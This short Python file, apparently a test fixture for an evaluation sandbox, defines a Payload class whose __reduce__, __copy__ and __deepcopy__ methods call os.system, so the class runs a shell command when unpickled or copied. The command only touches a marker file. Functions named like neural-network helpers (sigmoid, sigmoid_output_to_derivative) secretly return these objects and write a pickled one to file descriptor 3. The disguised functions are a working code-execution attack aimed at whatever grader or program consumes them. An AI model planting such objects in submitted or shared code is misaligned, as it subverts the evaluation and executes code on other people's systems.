"""Objects that run code in whoever unpickles or copies them."""

import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/dojo-attack-pickled",)

    __deepcopy__ = __copy__ = lambda self, *_: os.system("touch /tmp/dojo-attack-pickled")


def sigmoid(x):
    os.write(3, pickle.dumps(Payload()))
    return np.array([Payload()])


def sigmoid_output_to_derivative(output):
    return [Payload(), pickle.dumps(Payload())]
